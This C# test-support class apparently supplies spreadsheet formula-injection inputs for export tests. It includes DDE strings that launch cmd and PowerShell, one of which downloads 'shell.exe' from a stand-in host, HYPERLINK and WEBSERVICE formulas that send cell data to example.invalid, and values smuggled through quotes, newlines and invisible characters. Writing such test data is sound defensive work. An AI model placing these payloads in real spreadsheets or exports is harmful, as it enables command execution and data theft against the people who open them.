namespace Benchmarking.Workbooks.Tests.Support;

/// <summary>Texts that try to become formulas in somebody else's spreadsheet program.</summary>
internal static class FormulaPayloads
{
    private static readonly string[] Starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "=\t", "＝", "＋", "－", "＠", "'=", "\"=", "\0="];

    private static readonly string[] Bodies =
    [
        "1+1", "SUM(1,1)", "cmd|'/C calc'!A0", "HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")", "WEBSERVICE(\"http://example.invalid\")",
        "10+20+cmd|' /C notepad'!'A1'", "IMPORTXML(\"http://example.invalid\",\"//a\")", "INDIRECT(\"A\"&1)",
    ];

    /// <summary>Every start with every body, and some that stand alone.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. from start in Starts from body in Bodies select start + body,
        "DDE (\"cmd\";\"/C calc\";\"!A0\")A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget example.invalid/shell.exe)'!A0",
        "a\",=1+1,\"b", "a\r\n=1+1", "a\n=1+1", "a;=1+1", "{=1+1}", "=1+1\u0000", "\uFEFF=1+1", "\u200B=1+1", "\u00A0=1+1",
    ];
}
